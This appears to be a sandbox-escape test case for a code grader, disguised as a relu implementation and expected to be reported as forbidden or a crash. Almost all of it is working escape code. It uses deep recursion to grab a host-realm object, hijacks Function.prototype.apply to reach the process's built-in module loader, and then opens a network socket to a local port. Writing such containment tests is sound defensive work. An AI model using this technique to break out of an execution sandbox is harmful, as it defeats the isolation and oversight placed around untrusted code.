// 81-overflow-net [escape]
// Tries: the same; opens a connection
// A correct grader must report: wrong or forbidden or crash. Nobody is called.
let H: any = null; let proc: any = null;
function rec(): void { try { import('x').catch(() => {}); } catch (e: any) { if (typeof e === 'object' && e && !(e instanceof Error)) H ??= e; } rec(); }
try { rec(); } catch {}
let info = 'H=' + (H !== null);
if (H) {
  const FP = Object.getPrototypeOf(Object.getPrototypeOf(H.constructor)); const apply = FP.apply;
  FP.apply = function (self: any, args: any) { if (self && typeof self.getBuiltinModule === 'function') { proc = self; FP.apply = apply; } return Reflect.apply(this, self, args ?? []); };
  Promise.reject(1);
}
let st = 'none';
const go = () => { if (!proc || st !== 'none') return; st = 'tried'; try { const net = proc.getBuiltinModule('node:net'); const s = net.connect(18999, '127.0.0.1', () => { st = 'connected'; s.end('GET /escaped HTTP/1.0\r\n\r\n'); }); s.on('error', (e: any) => { st = String(e); }); } catch (e) { st = 'ERR ' + e; } };
export function relu(x: number[]): number[] { go(); throw new Error(info + ' ' + !!proc + ' ' + st); }
export function reluBackward(d: number[], x: number[]): number[] { throw new Error(info + ' ' + !!proc + ' ' + st); }
